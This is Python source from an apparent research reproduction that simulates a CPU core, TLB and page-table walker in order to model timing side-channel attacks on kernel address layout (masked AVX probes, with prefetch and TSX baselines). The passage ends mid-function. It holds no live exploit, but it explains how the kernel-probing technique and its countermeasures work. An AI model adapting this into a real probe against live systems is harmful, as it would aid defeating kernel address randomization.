* the simulated clock advances by exactly the cycles the per-op path
  would have charged (first + steady x (ops - 1) plus the per-measurement
  RDTSC/loop overhead),
* performance counters (and the walker's ``completed_walks``) replay the
  steady op's delta once per skipped op, so counter reads are *equal* to
  the per-op path's,
* measurement noise is drawn in one vectorized call from the canonical
  kernel in :mod:`repro.cpu.noise` (same distribution as the scalar
  path; the RNG stream is consumed in a different order, so individual
  noise values -- but not their statistics or the classification
  outcomes -- differ from the per-op path).

The per-op simulator remains the reference; equivalence tests cross-
validate recovered bases / module lists / regions between both paths.

The row loop is factored into :func:`sweep_rows` (execute rows ``lo..hi``
of a sweep through the per-op reference path) and :func:`finalize_sweep`
(the vectorized noise/coarsening/reduce tail) so the columnar engine
(:mod:`repro.cpu.columnar`) can reuse both: it executes eligible row
ranges as array passes and delegates the rest to ``sweep_rows``, then
both paths share one finalize -- which is what keeps the two engines
bit-identical on the measured matrix.
"""

import numpy as np

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_1G, PAGE_SIZE_2M

_PAGE_SUFFIX = {PAGE_SIZE: "4k", PAGE_SIZE_2M: "2m", PAGE_SIZE_1G: "1g"}


def _page_class(translation):
    """Histogram label for one probed VA: mapping kind + page size.

    The per-page-class split is what makes the forensics report useful:
    a misclassification shows up as probe cycles landing in the wrong
    class's distribution.
    """
    if translation is None:
        return "unmapped"
    kind = "user" if translation.flags.user else "kernel"
    return "{}-{}".format(
        kind, _PAGE_SUFFIX.get(translation.page_size, "other")
    )


class SweepState:
    """Per-row observation state accumulated while a sweep executes.

    ``first``/``steady`` hold each VA's first-access and steady-state true
    cycle counts.  Under an active chaos runtime, noise / spike / timer
    resolution become per-row state captured at each VA's poll boundary
    (``noise``, ``spike_col``, ``resolution``); on a quiet machine they
    stay None and :func:`finalize_sweep` draws one vectorized noise block
    instead.  Both the row loop (:func:`sweep_rows`) and the columnar
    engine write into the same state object, so a sweep can mix
    vectorized and per-op row ranges without changing its output.
    """

    __slots__ = ("n", "rounds", "chaos", "first", "steady", "noise",
                 "spike_col", "resolution")

    def __init__(self, n, rounds, chaos):
        self.n = n
        self.rounds = rounds
        self.chaos = chaos
        self.first = np.empty(n, dtype=np.int64)
        self.steady = np.empty(n, dtype=np.int64)
        if chaos is not None:
            self.noise = np.empty((n, rounds), dtype=np.int64)
            self.spike_col = np.zeros(n, dtype=np.int64)
            self.resolution = np.ones(n, dtype=np.int64)
        else:
            self.noise = None
            self.spike_col = None
            self.resolution = None


def sweep_rows(core, vas, rounds, op, warm, state, lo, hi):
    """Execute sweep rows ``vas[lo:hi]`` through the per-op reference path.

    This is the engine's row loop: at most two reference ops per VA plus
    the closed-form replay of the skipped repetitions.  Results land in
    ``state.first``/``state.steady`` (and the chaos per-row arrays) at
    rows ``lo..hi``; the clock, performance counters, walker and TLB are
    advanced exactly as the per-op path would.
    """
    obs = core.obs
    execute = core.masked_load if op == "load" else core.masked_store
    cpu = core.cpu
    ops_per_va = 2 * rounds if warm else rounds
    # per-measurement RDTSC + loop overhead, charged per VA inside the
    # loop (not at sweep end) so the mid-sweep clock agrees with the
    # per-op path at every chaos poll boundary
    per_va_overhead = rounds * (cpu.measurement_overhead
                                + cpu.loop_overhead)
    chaos = state.chaos
    first = state.first
    steady = state.steady

    for i in range(lo, hi):
        va = vas[i]
        if chaos is not None:
            core.chaos_poll()
            state.spike_col[i] = core.pending_spike_cycles
            core.pending_spike_cycles = 0
            state.resolution[i] = core.timer_resolution
            state.noise[i] = core.noise.sample_array(
                core.rng, (rounds,)
            ).astype(np.int64)
        page_table = core.address_space.page_table
        translation = page_table.lookup(va).translation
        hint = translation.page_size if translation is not None else None

        result = execute(va, page_size_hint=hint)
        first[i] = result.cycles
        if ops_per_va == 1:
            steady[i] = result.cycles
        else:
            skipped = ops_per_va - 2
            if not skipped:
                steady[i] = execute(va, page_size_hint=hint).cycles
            else:
                snap = core.perf.snapshot()
                walks_before = core.walker.completed_walks
                result = execute(va, page_size_hint=hint)
                steady[i] = result.cycles

                delta = core.perf.delta_since(snap)
                for event, count in delta.items():
                    if count:
                        core.perf.increment(event, count * skipped)
                walk_delta = core.walker.completed_walks - walks_before
                if walk_delta:
                    core.walker.completed_walks += walk_delta * skipped
                core.clock.advance(int(result.cycles) * skipped)

        # each of this VA's ``rounds`` timed measurements charges the
        # RDTSC + loop overhead the per-op _observe() path would have
        core.clock.advance(per_va_overhead)
        if obs.enabled:
            obs.metrics.observe(
                "engine.probe_cycles." + _page_class(translation),
                int(steady[i]),
            )


def finalize_sweep(core, state, warm, reduce):
    """Turn accumulated sweep state into the measured/reduced matrix.

    Quiet sweeps draw their noise here in one vectorized call; chaos
    sweeps already carry per-row noise/spike/resolution in ``state``.
    """
    rounds = state.rounds
    timed = np.repeat(state.steady[:, None], rounds, axis=1)
    if not warm:
        timed[:, 0] = state.first
    if state.chaos is None:
        noise = core.noise.sample_array(
            core.rng, (state.n, rounds)
        ).astype(np.int64)
    else:
        noise = state.noise
    measured = timed + core.cpu.measurement_overhead + noise
    if state.chaos is not None:
        measured[:, 0] += state.spike_col
        measured -= measured % state.resolution[:, None]
    elif core.timer_resolution > 1:
        measured -= measured % core.timer_resolution

    if reduce == "mean":
        return measured.mean(axis=1)
    if reduce == "min":
        return measured.min(axis=1)
    return measured


def validate_sweep_args(op, reduce, rounds):
    """Shared argument validation for both sweep engines."""
    if op not in ("load", "store"):
        raise ValueError("op must be 'load' or 'store', not {!r}".format(op))
    if reduce not in ("mean", "min", None):
        raise ValueError("reduce must be 'mean', 'min' or None")
    if rounds < 1:
        raise ValueError("rounds must be >= 1")


def probe_sweep(core, vas, rounds, op="load", warm=True, reduce="mean"):
    """Measure every address in ``vas`` with ``rounds`` probes each.

    ``warm=True`` models the paper's double probe: each timed measurement
    is preceded by an untimed warming op, so all ``rounds`` observations
    sit at the steady-state latency.  ``warm=False`` models bare repeated
    single probes (the userspace scans): the first observation carries
    the cold first-access latency.

    ``reduce`` is ``"mean"`` (double-probe convention), ``"min"``
    (module/userspace scans), or ``None`` for the raw
    ``(len(vas), rounds)`` observation matrix (batched calibration).

    Only zero-mask probes are supported -- active elements could fault
    mid-sweep, which the closed-form replay cannot express.
    """
    validate_sweep_args(op, reduce, rounds)
    vas = list(vas)
    n = len(vas)
    if n == 0:
        return np.empty((0,) if reduce else (0, rounds), dtype=np.float64)

    obs = core.obs
    if obs.enabled:
        obs.metrics.inc("engine.sweeps")
        obs.metrics.inc("engine.probes", n * rounds)
    with obs.span("probe-sweep", vas=n, rounds=rounds, op=op, warm=warm):
        chaos = core.chaos if (core.chaos is not None and core.chaos.active) \
            else None
        state = SweepState(n, rounds, chaos)
        sweep_rows(core, vas, rounds, op, warm, state, 0, n)
        return finalize_sweep(core, state, warm, reduce)
