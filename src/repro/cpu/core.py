"""A simulated logical core: clock + MMU state + AVX unit + timers.

The :class:`Core` is what attack code drives.  It provides:

* raw masked-op execution (advancing the cycle clock),
* RDTSC-delimited *measurements* (adding measurement overhead and noise --
  what the attacker actually observes),
* translation-cache eviction (the paper's TLB attack needs it),
* privileged helpers that let the OS layer model kernel activity touching
  its own pages (syscalls, driver interrupts) so the TLB reflects it.
"""

import numpy as np

from repro.cpu.avx import ZERO_MASK, AVXUnit
from repro.cpu.clock import SimClock
from repro.cpu.noise import NoiseModel
from repro.cpu.perfcounters import PerfCounters
from repro.errors import ConfigError
from repro.mmu.psc import PagingLineCache, PagingStructureCache
from repro.mmu.tlb import TwoLevelTLB
from repro.mmu.walker import PageTableWalker, WalkTiming
from repro.obs.trace import NULL_TRACER

#: cycles charged for one full software eviction of the translation caches
EVICTION_COST_CYCLES = 4200


class Core:
    """One logical core bound to a CPU model."""

    def __init__(self, cpu, rng=None, seed=0):
        self.cpu = cpu
        if rng is None:
            rng = np.random.default_rng(seed)
        self.rng = rng
        self.clock = SimClock(cpu.freq_ghz)
        self.noise = NoiseModel(
            rng,
            sigma=cpu.noise_sigma,
            spike_prob=cpu.spike_prob,
            spike_cycles=cpu.spike_cycles,
        )
        self.perf = PerfCounters()
        self.tlb = TwoLevelTLB(
            l1_4k=cpu.tlb_l1_4k,
            l1_2m=cpu.tlb_l1_2m,
            l1_1g=cpu.tlb_l1_1g,
            stlb=cpu.stlb,
        )
        self.walker = PageTableWalker(
            timing=WalkTiming(
                base=cpu.walk_base,
                access_hot=cpu.walk_access_hot,
                access_cold=cpu.walk_access_cold,
                level_step=cpu.level_step_cycles,
            ),
            psc=PagingStructureCache(
                pml4e_entries=cpu.psc_pml4e,
                pdpte_entries=cpu.psc_pdpte,
                pde_entries=cpu.psc_pde,
            ),
            line_cache=PagingLineCache(cpu.paging_line_capacity),
            perf=self.perf,
        )
        self.avx = AVXUnit(cpu, self.tlb, self.walker, self.perf)
        self._space = None
        #: PCID tag the kernel runs under (None: kernel shares tag 0, the
        #: non-KPTI configuration); set by the Machine factory for
        #: KPTI + PCID kernels.
        self.kernel_asid = None
        #: KPTI without PCID: the CR3 write on kernel exit flushes the
        #: kernel's (non-global) TLB entries.
        self.kernel_exit_flushes = False
        #: timer coarsening (cycles): measurements round down to a
        #: multiple of this.  1 = the full-precision RDTSC the paper's
        #: attack requires (its SGX variant needs SGX2 exactly for this);
        #: larger values model coarsened/fuzzed timer defenses.
        self.timer_resolution = 1
        #: disturbance-injection runtime (:mod:`repro.chaos`), or None on
        #: a lab-quiet machine; polled at probe boundaries via chaos_poll
        self.chaos = None
        #: DVFS multiplier on true cycle counts: 1.0 at nominal frequency,
        #: >1 when a chaos frequency transition clocked the core down
        self.dvfs_scale = 1.0
        #: one-shot extra cycles an interrupt/SMI storm adds to the next
        #: timed measurement (consumed by _observe / the batched engine)
        self.pending_spike_cycles = 0
        #: observability sink (:mod:`repro.obs`); the null tracer unless a
        #: Tracer.attach() rebinds it, so hot paths can guard on
        #: ``self.obs.enabled`` without a None check
        self.obs = NULL_TRACER

    def chaos_poll(self):
        """Fire any due disturbances (no-op on lab-quiet machines).

        Both probe paths call this at the same probe boundaries (once per
        probed VA, plus calibration/scan entry points), which is what
        keeps the disturbance schedule identical across per-op and
        batched modes for the same seed.
        """
        if self.chaos is not None:
            self.chaos.poll()

    # -- address-space management -------------------------------------------

    @property
    def address_space(self):
        if self._space is None:
            raise ConfigError("no address space attached to core")
        return self._space

    def set_address_space(self, space, flush=True):
        """MOV CR3: switch the active translations.

        ``flush=False`` models PCID-tagged switches that spare the TLB.
        """
        self._space = space
        if flush:
            self.tlb.flush(keep_global=True)
            self.walker.psc.flush()

    # -- raw execution (advances the clock) ----------------------------------

    def masked_load(self, va, mask=ZERO_MASK, element_size=4,
                    privileged=False, page_size_hint=None):
        result = self.avx.masked_load(
            self.address_space, va, mask, element_size, privileged,
            page_size_hint,
        )
        if self.dvfs_scale != 1.0:
            result.cycles = int(round(result.cycles * self.dvfs_scale))
        self.clock.advance(result.cycles)
        return result

    def masked_store(self, va, mask=ZERO_MASK, element_size=4,
                     privileged=False, data=None, page_size_hint=None):
        result = self.avx.masked_store(
            self.address_space, va, mask, element_size, privileged, data,
            page_size_hint,
        )
        if self.dvfs_scale != 1.0:
            result.cycles = int(round(result.cycles * self.dvfs_scale))
        self.clock.advance(result.cycles)
        return result

    # -- attacker-visible measurements ---------------------------------------

    def probe_sweep(self, vas, rounds=None, op="load", warm=True,
                    reduce="mean", engine=None):
        """Batched sweep measurement (see :mod:`repro.cpu.engine`).

        Equivalent in simulated time, counter effects, and classification
        outcomes to looping the scalar double/single probes; orders of
        magnitude fewer Python-level ops.  ``rounds=None`` uses the CPU
        model's default round count.

        ``engine`` selects the sweep executor: ``"columnar"`` (the
        struct-of-arrays core, :mod:`repro.cpu.columnar`), ``"batched"``
        (the two-reference-ops row loop), or None/``"auto"`` -- columnar
        for full-range scans (>= ``COLUMNAR_MIN_VAS`` addresses, tracing
        off), batched otherwise.  All engines are bit-identical on
        measured values, clock, counters and MMU state.
        """
        from repro.cpu import columnar as _columnar
        from repro.cpu import engine as _engine

        if rounds is None:
            rounds = self.cpu.rounds_default
        vas = list(vas)
        if engine is None or engine == "auto":
            engine = "columnar" if (
                not self.obs.enabled
                and len(vas) >= _columnar.COLUMNAR_MIN_VAS
            ) else "batched"
        if engine == "columnar":
            return _columnar.columnar_sweep(self, vas, rounds, op=op,
                                            warm=warm, reduce=reduce)
        if engine != "batched":
            raise ConfigError(
                "unknown sweep engine {!r} (use 'columnar', 'batched' or "
                "'auto')".format(engine)
            )
        return _engine.probe_sweep(self, vas, rounds, op=op, warm=warm,
                                   reduce=reduce)

    def timed_masked_load(self, va, mask=ZERO_MASK, element_size=4):
        """RDTSC / op / RDTSCP measurement of one masked load.

        Returns the cycle count the attacker reads: true latency plus
        serialization overhead plus measurement noise.
        """
        result = self.masked_load(va, mask, element_size)
        return self._observe(result.cycles)

    def timed_masked_store(self, va, mask=ZERO_MASK, element_size=4):
        result = self.masked_store(va, mask, element_size)
        return self._observe(result.cycles)

    def _observe(self, true_cycles):
        measured = (
            true_cycles + self.cpu.measurement_overhead + self.noise.sample()
        )
        if self.pending_spike_cycles:
            # an injected interrupt/SMI storm lands on this measurement
            measured += self.pending_spike_cycles
            self.pending_spike_cycles = 0
        if self.timer_resolution > 1:
            measured -= measured % self.timer_resolution
        self.clock.advance(self.cpu.measurement_overhead
                           + self.cpu.loop_overhead)
        return measured

    def read_tsc(self):
        """RDTSC: current cycle count (charges the instruction's cost)."""
        self.clock.advance(self.cpu.measurement_overhead // 2)
        return self.clock.cycles

    # -- prior-art probe primitives (baseline attacks) -------------------------

    def timed_prefetch(self, va):
        """PREFETCHT0-style probe (the Gruss et al. baseline).

        Prefetches never fault, so no masking is needed -- but the
        hardware may silently drop the hint before translation, in which
        case the measurement carries no signal.  That drop rate is why
        prefetch attacks need heavy repetition/noise filtering, the
        practicality gap the paper's introduction calls out.
        """
        space = self.address_space
        if self.rng.random() < self.cpu.prefetch_drop_prob:
            # dropped hint: constant early-retire time, no translation
            cycles = self.cpu.prefetch_base
            self.clock.advance(cycles)
            return self._observe(cycles)
        entry, level = self.tlb.lookup(va)
        if entry is not None:
            translation_cycles = (
                self.cpu.tlb_hit_l1 if level == "L1" else self.cpu.tlb_hit_l2
            )
        else:
            walk = self.walker.walk(space.page_table, va)
            translation_cycles = walk.cycles
            if walk.translation is not None and (
                walk.translation.flags.user
                or self.cpu.fills_tlb_for_supervisor_user_probe
            ):
                self.tlb.fill(walk.translation)
        cycles = self.cpu.prefetch_base + translation_cycles
        self.clock.advance(cycles)
        return self._observe(cycles)

    def tsx_probe(self, va):
        """Intel TSX abort-timing probe (the DrK / Jang et al. baseline).

        Accessing a kernel address inside a transaction aborts without a
        delivered #PF; the abort latency carries the translation timing.
        Raises ConfigError on parts without TSX -- which is every recent
        one, the reason the paper's AVX channel matters.
        """
        if not self.cpu.supports_tsx:
            raise ConfigError(
                "{} has no (enabled) TSX; the DrK baseline cannot run"
                .format(self.cpu.name)
            )
        space = self.address_space
        entry, level = self.tlb.lookup(va)
        if entry is not None:
            translation_cycles = (
                self.cpu.tlb_hit_l1 if level == "L1" else self.cpu.tlb_hit_l2
            )
        else:
            walk = self.walker.walk(space.page_table, va)
            translation_cycles = walk.cycles
            if walk.translation is not None and (
                walk.translation.flags.user
                or self.cpu.fills_tlb_for_supervisor_user_probe
            ):
                self.tlb.fill(walk.translation)
        cycles = self.cpu.tsx_abort_base + translation_cycles
        self.clock.advance(cycles)
        return self._observe(cycles)

    # -- translation-cache manipulation ---------------------------------------

    def evict_translation_caches(self):
        """Software eviction of TLB + PSC + paging-structure lines.

        Models the attacker touching a large eviction buffer: every
        translation entry is displaced and the cached page-table lines are
        pushed out of the data cache, so the next walk is fully cold (the
        paper's 381-cycle case).
        """
        self.tlb.flush(keep_global=False)
        self.walker.flush()
        self.clock.advance(EVICTION_COST_CYCLES)

    def invlpg(self, va):
        """Privileged INVLPG (used by in-kernel experiment drivers)."""
        self.tlb.invalidate(va)
        self.walker.invalidate_address(va)
        self.clock.advance(200)

    # -- privileged execution (OS-side activity) ------------------------------

    def kernel_touch(self, vas, space=None):
        """Model the kernel touching its own pages (syscall, IRQ, driver).

        Each address is accessed in supervisor mode so its translation
        lands in the TLB -- the state the paper's TLB attack (P4) and the
        FLARE bypass observe.
        """
        space = space if space is not None else self.address_space
        user_asid = self.tlb.active_asid
        if self.kernel_asid is not None:
            # KPTI + PCID: kernel-mode fills are tagged with the kernel's
            # PCID and invisible to user-mode lookups (why the TLB attack
            # dies on such kernels)
            self.tlb.active_asid = self.kernel_asid
        try:
            for va in vas:
                entry, __ = self.tlb.lookup(va)
                if entry is None:
                    walk = self.walker.walk(space.page_table, va)
                    if walk.translation is not None:
                        self.tlb.fill(walk.translation)
                    self.clock.advance(walk.cycles)
                else:
                    self.clock.advance(self.cpu.tlb_hit_l1)
        finally:
            self.tlb.active_asid = user_asid
        if self.kernel_exit_flushes:
            # KPTI without PCID: returning to user mode rewrites CR3 and
            # drops the kernel's freshly loaded translations
            self.tlb.flush(keep_global=True)
            self.clock.advance(300)

    def run_setup(self):
        """Charge the attack's fixed setup cost (mmap, calibration plumbing)."""
        self.clock.advance(self.cpu.setup_cycles)
