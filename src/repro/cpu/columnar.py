"""Columnar probe engine: struct-of-arrays state evolution for sweeps.

The batched engine (:mod:`repro.cpu.engine`) already collapses each VA's
``rounds`` repetitions into two reference ops plus a closed-form replay,
but those two ops still run the per-op simulator: a Python TLB lookup
over four arrays, a Python radix walk, per-level line-cache dictionary
traffic -- per address.  Full-range scans (16 Ki module slots, hundreds
of thousands of userspace pages) spend all their time there.

This module removes the per-address simulator from the loop.  It
*compiles* a window of the sweep against the machine's current MMU state
into dense numpy arrays -- one column per per-VA attribute:

* structural resolution: per-level page-table node ids and indices,
  terminal level, present/user/writable/dirty bits, PFN (derived by a
  vectorized radix descent over the page-table nodes, with per-node
  sorted-key arrays cached against the global mutation generation);
* timing inputs: walk base cycles, assist costs, op base;
* replacement-state interaction points: *run* boundaries (the node chain
  changed -> the PSC resume depth must be measured against the real
  LRU state) and *group* boundaries (the terminal paging line changed ->
  the line cache must really be touched).

Only boundary rows interact with the real PSC / paging-line caches --
through the exact same ``deepest_hit`` / ``access`` / ``fill`` call
sequence the walker issues, in row order.  Every interior row's cache
outcome is forced by the boundary row that opened its run or group (the
walk resumes at the terminal level and its line is hot and
most-recently-used), so interior rows are pure array arithmetic.  The
TLB is evolved the same way: a window is only *eligible* if the compile
step can prove from the live TLB contents that every first access
misses every array and no two sweep fills collide, in which case hit/
miss counters, per-set bucket order (LRU replay), and the closed-form
clock/perf replay are applied per window instead of per op.

Anything the proof does not cover -- ineligible windows, non-canonical
or page-spanning addresses, zero-mask-NOP hardware, disabled or
undersized PSC/line caches, active tracing -- falls back to the per-op
reference row loop (:func:`repro.cpu.engine.sweep_rows`), window by
window, inside the same sweep.  Both paths write the same
:class:`~repro.cpu.engine.SweepState` and share one
:func:`~repro.cpu.engine.finalize_sweep`, which is what keeps the
columnar path *bit-identical* to the batched engine: same measured
matrix, same clock, same performance counters, same TLB/PSC/line-cache
state, same chaos schedule.  The per-op simulator remains the oracle;
``tests/test_columnar.py`` asserts the three-way equivalence.

Under an active chaos runtime the sweep is additionally segmented by
:meth:`~repro.chaos.runtime.ChaosRuntime.next_deadline`: the window
executes vectorized only up to the row whose poll boundary would fire
the next disturbance, the event fires at exactly the per-op clock value,
and the remainder recompiles against the disturbed machine state.
"""

import numpy as np

from repro.cpu import engine as _engine
from repro.mmu import pagetable as _pagetable
from repro.mmu.address import (
    CANONICAL_HIGH_START,
    CANONICAL_LOW_END,
    PAGE_SIZE,
    PAGE_SIZE_1G,
    PAGE_SIZE_2M,
)
from repro.mmu.flags import PageFlags
from repro.mmu.tlb import TLBEntry

#: below this sweep length the compile overhead is not worth it; the
#: auto selection in :meth:`repro.cpu.core.Core.probe_sweep` keeps such
#: sweeps (calibration single pages, supervisor re-probes) on the
#: batched engine
COLUMNAR_MIN_VAS = 32

#: rows compiled per window: bounds the blast radius of an ineligible
#: address (the whole window falls back to the per-op row loop) and the
#: recompile cost after a mid-sweep disturbance
WINDOW_ROWS = 4096

#: introspection for tests and benchmarks: how the last columnar_sweep
#: call executed ("columnar" with row counts, or "delegated" + reason)
last_info = {
    "mode": None,
    "reason": None,
    "columnar_rows": 0,
    "fallback_rows": 0,
    "windows": 0,
}

_SIZE_CODE = {PAGE_SIZE: 0, PAGE_SIZE_2M: 1, PAGE_SIZE_1G: 2}
#: terminal level -> vpn shift / packed size code / page size (level 0
#: entries are unreachable for present rows; the compiler rejects them)
_VPN_SHIFT_OF_LEVEL = np.array([12, 30, 21, 12], dtype=np.uint64)
_CODE_OF_LEVEL = np.array([0, 2, 1, 0], dtype=np.int64)
_SIZE_OF_LEVEL_ARR = np.array(
    [0, PAGE_SIZE_1G, PAGE_SIZE_2M, PAGE_SIZE], dtype=np.int64
)

_LEVEL_SHIFTS_U64 = tuple(np.uint64(s) for s in (39, 30, 21, 12))
_INDEX_MASK_U64 = np.uint64(0x1FF)

#: per-node column cache: node_id -> (mutation generation, _NodeArrays).
#: node ids are globally unique and never reused, so a stale hit is
#: impossible; the generation tag drops columns when any table mutates.
_NODE_CACHE = {}
_NODE_CACHE_MAX = 8192


class _Ineligible(Exception):
    """Raised during compile when a window cannot be proven safe."""


class _NodeArrays:
    """Columnar image of one paging-structure node's sparse entries."""

    __slots__ = ("keys", "present", "terminal", "pfn", "user", "writable",
                 "dirty", "flag_objs", "children")

    def __init__(self, node):
        items = sorted(node.entries.items())
        count = len(items)
        self.keys = np.empty(count, dtype=np.int64)
        self.present = np.empty(count, dtype=bool)
        self.terminal = np.empty(count, dtype=bool)
        self.pfn = np.zeros(count, dtype=np.int64)
        self.user = np.empty(count, dtype=bool)
        self.writable = np.empty(count, dtype=bool)
        self.dirty = np.empty(count, dtype=bool)
        self.flag_objs = np.empty(count, dtype=object)
        self.children = [None] * count
        for slot, (index, entry) in enumerate(items):
            flags = entry.flags
            self.keys[slot] = index
            self.present[slot] = bool(flags & PageFlags.PRESENT)
            self.terminal[slot] = entry.child is None
            self.pfn[slot] = entry.pfn if entry.pfn is not None else 0
            self.user[slot] = bool(flags & PageFlags.USER)
            self.writable[slot] = bool(flags & PageFlags.WRITABLE)
            self.dirty[slot] = bool(flags & PageFlags.DIRTY)
            self.flag_objs[slot] = flags
            self.children[slot] = entry.child


def _node_arrays(node):
    generation = _pagetable._mutation_generation
    cached = _NODE_CACHE.get(node.node_id)
    if cached is not None and cached[0] == generation:
        return cached[1]
    arrays = _NodeArrays(node)
    if len(_NODE_CACHE) >= _NODE_CACHE_MAX:
        _NODE_CACHE.clear()
    _NODE_CACHE[node.node_id] = (generation, arrays)
    return arrays


class _Resolved:
    """Structural-resolution columns for one window (SoA Lookup)."""

    __slots__ = ("node_ids", "T", "present", "pfn", "user", "writable",
                 "dirty", "flag_objs")

    def __init__(self, n):
        self.node_ids = np.full((4, n), -1, dtype=np.int64)
        self.T = np.zeros(n, dtype=np.int64)
        self.present = np.zeros(n, dtype=bool)
        self.pfn = np.zeros(n, dtype=np.int64)
        self.user = np.zeros(n, dtype=bool)
        self.writable = np.zeros(n, dtype=bool)
        self.dirty = np.zeros(n, dtype=bool)
        self.flag_objs = np.empty(n, dtype=object)


def _resolve(node, level, rows, idx_cols, out):
    """Vectorized radix descent: classify ``rows`` through ``node``."""
    out.node_ids[level, rows] = node.node_id
    arrays = _node_arrays(node)
    idx = idx_cols[level][rows]
    if arrays.keys.size == 0:
        out.T[rows] = level
        return
    pos = np.searchsorted(arrays.keys, idx)
    in_bounds = pos < arrays.keys.size
    pos_c = np.where(in_bounds, pos, 0)
    found = in_bounds & (arrays.keys[pos_c] == idx)

    missing = rows[~found]
    if missing.size:
        out.T[missing] = level
    found_rows = rows[found]
    found_pos = pos_c[found]
    if not found_rows.size:
        return
    present = arrays.present[found_pos]
    not_present = found_rows[~present]
    if not_present.size:
        out.T[not_present] = level
    live_rows = found_rows[present]
    live_pos = found_pos[present]
    if not live_rows.size:
        return
    terminal = arrays.terminal[live_pos]
    term_rows = live_rows[terminal]
    if term_rows.size:
        if level == 0:
            raise _Ineligible("terminal-at-pml4")
        term_pos = live_pos[terminal]
        out.T[term_rows] = level
        out.present[term_rows] = True
        out.pfn[term_rows] = arrays.pfn[term_pos]
        out.user[term_rows] = arrays.user[term_pos]
        out.writable[term_rows] = arrays.writable[term_pos]
        out.dirty[term_rows] = arrays.dirty[term_pos]
        out.flag_objs[term_rows] = arrays.flag_objs[term_pos]
    dir_rows = live_rows[~terminal]
    if dir_rows.size:
        if level == 3:
            raise _Ineligible("malformed-pt")
        dir_pos = live_pos[~terminal]
        for slot in np.unique(dir_pos):
            _resolve(
                arrays.children[slot], level + 1,
                dir_rows[dir_pos == slot], idx_cols, out,
            )


class _Plan:
    """One compiled, eligibility-proven window of a sweep."""

    __slots__ = ("n", "T", "present", "idx_all", "node_ids", "term_node",
                 "term_idx", "run_first", "boundary", "walk_base", "op_base",
                 "assist", "has_assist", "fill_mask", "walks2", "vpn", "pfn",
                 "flag_objs", "page_size", "size_code")


def _tlb_key_sets(tlb):
    """Packed (vpn, size) keys currently cached: (visible, all)."""
    asid = tlb.active_asid
    visible = set()
    all_keys = set()
    for array in list(tlb.l1.values()) + [tlb.stlb]:
        for bucket in array._sets:
            for entry in bucket:
                key = entry.vpn * 4 + _SIZE_CODE[entry.page_size]
                all_keys.add(key)
                if entry.asid == asid or entry.is_global:
                    visible.add(key)
    return visible, all_keys


def _compile(core, vas, op):
    """Compile one window (``vas``: uint64 array) into a :class:`_Plan`.

    Returns None when the window cannot be proven equivalent to the
    per-op path; the caller then routes those rows through
    :func:`repro.cpu.engine.sweep_rows`.
    """
    n = vas.size
    canonical = (vas <= np.uint64(CANONICAL_LOW_END)) \
        | (vas >= np.uint64(CANONICAL_HIGH_START))
    if not canonical.all():
        return None
    # a 32-byte vector whose base offset exceeds 4064 spans two pages
    if ((vas & np.uint64(0xFFF)) > np.uint64(4064)).any():
        return None

    idx_cols = [
        ((vas >> shift) & _INDEX_MASK_U64).astype(np.int64)
        for shift in _LEVEL_SHIFTS_U64
    ]
    out = _Resolved(n)
    try:
        _resolve(core.address_space.page_table.root, 0,
                 np.arange(n, dtype=np.int64), idx_cols, out)
    except _Ineligible:
        return None

    T = out.T
    present = out.present
    vpn = (vas >> _VPN_SHIFT_OF_LEVEL[T]).astype(np.int64)
    size_code = _CODE_OF_LEVEL[T]
    cpu = core.cpu
    fill_mask = present & (out.user | cpu.fills_tlb_for_supervisor_user_probe)

    # -- TLB eligibility proof -------------------------------------------
    # A: no candidate lookup key (any page size) may hit a visible entry,
    #    so every first access is a full miss;
    # B: no fill key may match a cached key of any tag, or TLB.fill would
    #    replace in place instead of appending (it ignores the asid);
    # C: no fill key may collide with any other row's candidate keys, so
    #    sweep fills never hit or replace each other.
    cand = np.concatenate([
        ((vas >> np.uint64(12)).astype(np.int64) << 2),
        ((vas >> np.uint64(21)).astype(np.int64) << 2) | 1,
        ((vas >> np.uint64(30)).astype(np.int64) << 2) | 2,
    ])
    fill_keys = (vpn * 4 + size_code)[fill_mask]
    visible, all_keys = _tlb_key_sets(core.tlb)
    if visible:
        vis = np.fromiter(visible, dtype=np.int64, count=len(visible))
        if np.isin(cand, vis).any():
            return None
    if fill_keys.size:
        if all_keys:
            alk = np.fromiter(all_keys, dtype=np.int64, count=len(all_keys))
            if np.isin(fill_keys, alk).any():
                return None
        unique, counts = np.unique(cand, return_counts=True)
        if (counts[np.searchsorted(unique, fill_keys)] > 1).any():
            return None

    # -- per-row timing inputs -------------------------------------------
    timing = core.walker.timing
    plan = _Plan()
    plan.n = n
    plan.T = T
    plan.present = present
    plan.idx_all = np.stack(idx_cols)
    plan.node_ids = out.node_ids
    plan.vpn = vpn
    plan.pfn = out.pfn
    plan.flag_objs = out.flag_objs
    plan.page_size = _SIZE_OF_LEVEL_ARR[T]
    plan.size_code = size_code
    plan.fill_mask = fill_mask
    plan.walks2 = ~fill_mask
    plan.walk_base = timing.base + timing.level_step * (T + 1)
    if op == "load":
        plan.op_base = cpu.load_base
        plan.has_assist = ~(present & out.user)
        plan.assist = np.where(plan.has_assist, cpu.assist_load, 0)
    else:
        plan.op_base = cpu.store_base
        plan.has_assist = ~(present & out.user & out.writable & out.dirty)
        plan.assist = np.where(
            ~present, cpu.assist_store_fault,
            np.where(~out.user | ~out.writable, cpu.assist_store,
                     np.where(~out.dirty, cpu.assist_dirty, 0)),
        )

    # -- run / group decomposition ---------------------------------------
    rows = np.arange(n)
    plan.term_node = plan.node_ids[T, rows]
    plan.term_idx = plan.idx_all[T, rows]
    run_first = np.empty(n, dtype=bool)
    run_first[0] = True
    if n > 1:
        run_first[1:] = (
            (plan.node_ids[:, 1:] != plan.node_ids[:, :-1]).any(axis=0)
            | (T[1:] != T[:-1])
        )
    group_first = run_first.copy()
    if n > 1:
        group_first[1:] |= (
            (plan.term_node[1:] != plan.term_node[:-1])
            | ((plan.term_idx[1:] >> 3) != (plan.term_idx[:-1] >> 3))
        )
    plan.run_first = run_first
    plan.boundary = np.flatnonzero(group_first)
    return plan


def _sim_boundary(core, plan, row, walk1_extra):
    """Replay row ``row``'s real replacement-state interaction.

    Run-first rows issue the walker's exact PSC probe / line accesses /
    PSC fills; group-first rows touch just the (new) terminal line.
    Interior rows are never simulated: their walk resumes at the
    terminal level and finds its line hot and MRU, so they have no state
    effect at all (LRU refreshes of an MRU key are no-ops).
    """
    walker = core.walker
    timing = walker.timing
    lines = walker.line_cache
    if not plan.run_first[row]:
        hot = lines.access(int(plan.term_node[row]), int(plan.term_idx[row]))
        walk1_extra[row] = timing.access_hot if hot else timing.access_cold
        return
    terminal = int(plan.T[row])
